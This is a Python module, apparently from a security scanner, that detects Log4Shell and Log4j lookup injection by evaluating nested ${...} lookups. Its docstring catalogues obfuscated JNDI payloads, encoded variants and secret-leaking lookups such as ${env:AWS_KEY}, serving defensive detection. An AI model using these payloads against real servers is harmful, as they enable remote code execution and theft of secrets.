"""JNDI lookups (Log4Shell, CVE-2021-44228) and other Log4j lookup injection.

What it blocks: a value that, once written to a log by Log4j 2, makes the logger resolve a
``${jndi:ldap://...}`` lookup, i.e. load and run a class from the attacker's server. The
detector does not search for the word ``jndi``: it *evaluates* every ``${...}`` the way Log4j's
``StrSubstitutor`` does, innermost first, so the obfuscations that rebuild the word from pieces
all come out as ``jndi:``:

- ``${${lower:j}ndi:...}``, ``${${upper:J}NDI:...}``, ``${${::-j}${::-n}${::-d}${::-i}:...}``,
  ``${${env:NaN:-j}ndi:...}``, ``${${date:'j'}ndi:...}``, ``${j${k8s:k5:-ND}i:...}``,
  ``${jndi:${lower:l}${lower:d}a${lower:p}://...}``;
- with the ``${`` itself encoded (``%24%7B``, ``\\u0024{``, ``&#36;{``), which the shared
  decoding undoes.

Rules: ``jndi-lookup`` (a lookup resolving to ``jndi:``; critical), ``jndi-obfuscated-lookup``
(lookups nested to spell a word, ``${::-x}`` defaults, ``${lower:...}`` pieces: Log4j
obfuscation, critical even when no ``jndi`` comes out, e.g. probing with ``${${env:X:-$}{...}``),
``jndi-reference`` (a bare ``jndi:ldap://``/``rmi://`` reference, as fed to JNDI-injectable
configuration; critical), ``jndi-log4j-lookup`` (a plain Log4j lookup such as ``${env:AWS_KEY}``
or ``${sys:user.home}``, used to leak secrets through logs: 4 points, critical at paranoia 2, and
critical in a header at any paranoia: headers are what Log4j-based servers log, and no client puts a
lookup there).

Not an attack: shell and template variables (``${HOME}``, ``${user.name}``, ``${1}``), prices
(``$5``), the word "JNDI" in prose.

Config: none besides paranoia. Example::

    >>> [f.rule_id for f in DETECTOR.detect(Value("${${lower:j}ndi:ldap://x.example/a}"), "header.x-api", 1)]
    ['jndi-lookup', 'jndi-obfuscated-lookup']
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Final

from sealgate.detectors._support import excerpt
from sealgate.detectors.base import Finding
from sealgate.detectors.normalize import Value

__all__ = ["DETECTOR", "JndiDetector", "resolve_lookups"]

_MAX_SPAN: Final = 4096
_MAX_DEPTH: Final = 16
_UNRESOLVED: Final = "\x01"
"""Stands for a lookup Log4j would resolve to something the attacker does not control."""

_LOG4J_PREFIXES: Final = frozenset(
    {
        "env", "sys", "ctx", "main", "java", "lower", "upper", "date", "bundle", "k8s", "docker",
        "spring", "web", "log4j", "jvmrunargs", "sd", "map", "marker", "event", "script", "base64",
        "jndi",
    }
)
_JNDI_REFERENCE = re.compile(r"jndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:\s*/", re.IGNORECASE)
_JNDI_PROTOCOL = re.compile(r"^\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:", re.IGNORECASE)


@dataclass(slots=True)
class _Trace:
    """What evaluating the lookups of one value revealed."""

    jndi: list[tuple[int, int, str]] = field(default_factory=list)
    obfuscated: list[tuple[int, int]] = field(default_factory=list)
    lookups: list[tuple[int, int, str]] = field(default_factory=list)


class JndiDetector:
    """Log4Shell and Log4j lookup injection; see the module docstring."""

    name = "jndi"
    triggers: tuple[str, ...] = ("${", "jndi")

    def detect(self, value: Value, location: str, paranoia: int) -> list[Finding]:
        """Findings for ``value``; see the module docstring for the rules."""
        text = value.decoded
        has_lookup = "${" in text
        if not has_lookup and "jndi" not in value.lower:
            return []
        findings: list[Finding] = []
        trace = _Trace()
        if has_lookup:
            _scan(text, trace)
        if trace.jndi:
            start, end, resolved = trace.jndi[0]
            findings.append(Finding(self.name, "jndi-lookup", f"Log4j lookup resolving to {resolved[:60]!r}",
                                    "critical", location, excerpt(text, start, end)))
        if trace.obfuscated:
            start, end = trace.obfuscated[0]
            findings.append(Finding(self.name, "jndi-obfuscated-lookup", "Log4j lookups nested to spell a word",
                                    "critical", location, excerpt(text, start, end)))
        if not trace.jndi:
            reference = _JNDI_REFERENCE.search(text)
            if reference is not None:
                findings.append(Finding(self.name, "jndi-reference", "JNDI reference to a remote directory",
                                        "critical", location, excerpt(text, reference.start(), reference.end())))
        if trace.lookups and not findings:
            start, end, prefix = trace.lookups[0]
            # A header is where Log4j-logged request data comes from (User-Agent, X-Api-Version,
            # Referer), and no client writes "${env:...}" there: critical at paranoia 1.
            critical = paranoia >= 2 or location.startswith("header.")
            findings.append(Finding(self.name, "jndi-log4j-lookup", f"Log4j '{prefix}:' lookup",
                                    "critical" if critical else "error", location, excerpt(text, start, end)))
        return findings


_TOKEN = re.compile(r"\$\{|\}")


def _scan(text: str, trace: _Trace) -> None:
    """Evaluate every ``${...}`` of ``text``, innermost first, in one linear pass.

    ``${`` and ``}`` are matched like brackets (Log4j counts nesting the same way); each closed
    lookup is evaluated with its nested lookups already replaced by their values. A ``${``
    that never closes is literal text. Nesting deeper than :data:`_MAX_DEPTH` is literal too.
    """
    # frames[k]: the text parts of the k-th open lookup; starts[k]: where it began.
    frames: list[list[str]] = []
    starts: list[int] = []
    nested: list[bool] = []
    pos = 0
    for match in _TOKEN.finditer(text):
        if frames:
            frames[-1].append(text[pos : match.start()])
        pos = match.end()
        if match.group() == "${":
            if len(frames) >= _MAX_DEPTH:
                frames[-1].append("${")
                continue
            if nested:
                nested[-1] = True
            frames.append([])
            starts.append(match.start())
            nested.append(False)
            continue
        if not frames:
            continue  # a "}" outside any lookup
        parts = frames.pop()
        start = starts.pop()
        had_nested = nested.pop()
        key = "".join(parts)[:_MAX_SPAN] if len(parts) != 1 else parts[0][:_MAX_SPAN]
        if not had_nested and ":" not in key:
            resolved = _UNRESOLVED  # ${HOME}: not a Log4j lookup we care about
        else:
            resolved = _evaluate(key, had_nested, start, match.end(), trace)
        if frames:
            frames[-1].append(resolved)


def _evaluate(key: str, nested: bool, start: int, end: int, trace: _Trace) -> str:
    """The value Log4j gives ``${key}``; records jndi/obfuscation/lookup evidence in ``trace``."""
    name, sep, default = key.partition(":-")
    prefix, colon, rest = name.partition(":")
    prefix_low = prefix.strip().lower()
    if nested and len(key) <= 64 and any(c.isalpha() for c in key):
        # ${${lower:j}ndi...}: a lookup whose name is itself built from lookups.
        trace.obfuscated.append((start, end))
    if colon and prefix_low == "jndi" and (_JNDI_PROTOCOL.match(rest) or _UNRESOLVED in rest or nested):
        trace.jndi.append((start, end, key))
        return _UNRESOLVED
    if colon and prefix_low == "jndi":
        trace.jndi.append((start, end, key))
        return _UNRESOLVED
    if colon and prefix_low in ("lower", "upper"):
        if len(rest) <= 3:
            trace.obfuscated.append((start, end))
        return rest.lower() if prefix_low == "lower" else rest.upper()
    if colon and prefix_low == "date":
        fmt = rest.strip()
        if len(fmt) >= 2 and fmt[0] == fmt[-1] == "'":
            trace.obfuscated.append((start, end))
            return fmt[1:-1]
        return _UNRESOLVED
    if sep:
        # ${::-j}, ${env:NaN:-j}: an unresolvable name with a default spells one piece.
        if len(default) <= 3 and (not name.strip(":") or colon):
            trace.obfuscated.append((start, end))
        if colon and prefix_low in _LOG4J_PREFIXES:
            trace.lookups.append((start, end, prefix_low))
        return default
    if colon and prefix_low in _LOG4J_PREFIXES:
        trace.lookups.append((start, end, prefix_low))
    return _UNRESOLVED


def resolve_lookups(text: str) -> list[str]:
    """The ``jndi:`` lookups ``text`` resolves to under Log4j rules (for tests and tooling)."""
    trace = _Trace()
    _scan(text, trace)
    return [key for _, _, key in trace.jndi]


DETECTOR = JndiDetector()
